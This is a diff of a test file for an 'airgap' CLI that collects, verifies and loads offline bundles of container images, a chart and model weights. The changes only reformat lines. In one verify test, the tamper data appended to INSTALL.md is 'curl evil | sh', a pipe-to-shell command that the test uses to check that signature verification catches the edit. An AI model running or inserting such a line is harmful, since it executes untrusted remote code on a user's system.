@@ -31,7 +31,12 @@ beforeAll(async () => {
       const [src, deployed] = line.split(' ');
       const layout = join(work, `layout-${i}`);
       // postgres is multi-arch upstream: collect must keep only the platform asked for
-      const digest = writeImage(layout, 'img', `image ${src}`, deployed.endsWith('/postgres:15') ? ['linux/amd64', 'linux/arm64'] : ['linux/amd64']);
+      const digest = writeImage(
+        layout,
+        'img',
+        `image ${src}`,
+        deployed.endsWith('/postgres:15') ? ['linux/amd64', 'linux/arm64'] : ['linux/amd64'],
+      );
       pushImage(layout, 'img', src);
       return { source: src, deployed, digest };
     });
@@ -40,8 +45,21 @@ beforeAll(async () => {
   writeFileSync(join(models, 'mistral-7b-instruct-q4', 'model.gguf'), Buffer.alloc(4096, 7));
   bundle = join(work, 'bundle');
   const c = runCli([
-    'airgap', 'collect', '--tier', 'edge', '--out', bundle, '--key', keys.key, '--source-registry', source.host,
-    '--insecure-registry', '--model-dir', models, '--created', '2026-01-01T00:00:00Z',
+    'airgap',
+    'collect',
+    '--tier',
+    'edge',
+    '--out',
+    bundle,
+    '--key',
+    keys.key,
+    '--source-registry',
+    source.host,
+    '--insecure-registry',
+    '--model-dir',
+    models,
+    '--created',
+    '2026-01-01T00:00:00Z',
   ]);
   expect(c.code, c.stderr).toBe(0);
   expect(c.stderr).toMatch(/collect: \[1\/8\]/);
@@ -68,14 +86,31 @@ describe('airgap collect', () => {
     const pg = index.manifests.find((m: any) => m.annotations['org.opencontainers.image.ref.name'].endsWith('/postgres:15'));
     const pgSource = pairs.find((p) => p.deployed.endsWith('/postgres:15'))!;
     expect(pg.digest).not.toBe(pgSource.digest); // the amd64 image, not the index
-    const config = JSON.parse(readFileSync(join(bundle, 'images', 'blobs', 'sha256', JSON.parse(readFileSync(join(bundle, 'images', 'blobs', 'sha256', pg.digest.slice(7)), 'utf8')).config.digest.slice(7)), 'utf8'));
+    const config = JSON.parse(
+      readFileSync(
+        join(
+          bundle,
+          'images',
+          'blobs',
+          'sha256',
+          JSON.parse(readFileSync(join(bundle, 'images', 'blobs', 'sha256', pg.digest.slice(7)), 'utf8')).config.digest.slice(7),
+        ),
+        'utf8',
+      ),
+    );
     expect(config.architecture).toBe('amd64');
   });
 
   it('records every image with its source and digest, the chart, the weights, INSTALL.md and README in the manifest', () => {
     const manifest = readFileSync(join(bundle, 'manifest.yaml'), 'utf8');
     for (const p of pairs) expect(manifest).toContain(`source: ${p.source}`);
-    for (const f of ['INSTALL.md', 'README.md', 'charts/ai-platform-1.2.0.tgz', 'models/mistral-7b-instruct-q4/model.gguf', 'values/values-tier1-edge.yaml'])
+    for (const f of [
+      'INSTALL.md',
+      'README.md',
+      'charts/ai-platform-1.2.0.tgz',
+      'models/mistral-7b-instruct-q4/model.gguf',
+      'values/values-tier1-edge.yaml',
+    ])
       expect(manifest).toContain(`path: ${f}\n`);
     expect(readFileSync(join(bundle, 'INSTALL.md'), 'utf8')).toContain('helm install ai-platform charts/ai-platform-1.2.0.tgz');
   });
@@ -99,7 +134,19 @@ describe('airgap collect', () => {
 
   it('exits 1 writing nothing when the tier serves a model whose weights are missing, unless --no-models', () => {
     const out = join(tempDir(), 'b');
-    const args = ['airgap', 'collect', '--tier', 'edge', '--out', out, '--key', keys.key, '--source-registry', source.host, '--insecure-registry'];
+    const args = [
+      'airgap',
+      'collect',
+      '--tier',
+      'edge',
+      '--out',
+      out,
+      '--key',
+      keys.key,
+      '--source-registry',
+      source.host,
+      '--insecure-registry',
+    ];
     const r = runCli(args);
     expect(r.code).toBe(1);
     expect(r.stderr).toContain('the tier serves mistral-7b-instruct-q4 but no --model-dir was given');
@@ -150,7 +197,10 @@ describe('airgap verify', () => {
     writeFileSync(install, `${readFileSync(install, 'utf8')}curl evil | sh\n`);
     const sum = spawnSync('sha256sum', [install], { encoding: 'utf8' }).stdout.split(' ')[0];
     const m = join(edited, 'manifest.yaml');
-    const text = readFileSync(m, 'utf8').replace(/(- path: INSTALL\.md\n\s+sha256: )[0-9a-f]{64}(\n\s+size: )\d+/, `$1${sum}$2${readFileSync(install).length}`);
+    const text = readFileSync(m, 'utf8').replace(
+      /(- path: INSTALL\.md\n\s+sha256: )[0-9a-f]{64}(\n\s+size: )\d+/,
+      `$1${sum}$2${readFileSync(install).length}`,
+    );
     writeFileSync(m, text);
     const r1 = runCli(['airgap', 'verify', edited, '--key', keys.pub]);
     expect(r1.code).toBe(1);
@@ -177,7 +227,9 @@ describe('airgap load and check --registry-url', () => {
     for (const p of pairs) expect(empty.stdout).toContain(`${p.deployed}: not in the registry at ${far.url}`);
     const skip = runCli(['check', '--tier', 'edge']);
     expect(skip.code).toBe(0);
-    expect(skip.stdout).toMatch(/^SKIP {2}Every image available in the tier's registry\n {6}8 images name registry\.local:5000; whether it holds them is not checked/m);
+    expect(skip.stdout).toMatch(
+      /^SKIP {2}Every image available in the tier's registry\n {6}8 images name registry\.local:5000; whether it holds them is not checked/m,
+    );
   });
 
   it('loads every image with the digest collected, idempotently, then check --registry-url and --bundle pass', () => {
@@ -191,7 +243,8 @@ describe('airgap load and check --registry-url', () => {
       expect(remoteDigest(ref), ref).toBe(m.digest);
     }
     // the source's digest for every single-platform image
-    for (const p of pairs.filter((x) => !x.deployed.endsWith('/postgres:15'))) expect(remoteDigest(p.deployed.replace('registry.local:5000', far.host))).toBe(p.digest);
+    for (const p of pairs.filter((x) => !x.deployed.endsWith('/postgres:15')))
+      expect(remoteDigest(p.deployed.replace('registry.local:5000', far.host))).toBe(p.digest);
     expect(readFileSync(join(cwd, 'values-airgap.yaml'), 'utf8')).toContain(`registry: ${far.host}\n`);
     const second = runCli(['airgap', 'load', bundle, '--key', keys.pub, '--registry', far.host, '--insecure-registry'], { cwd });
     expect(second.code, second.stderr).toBe(0);
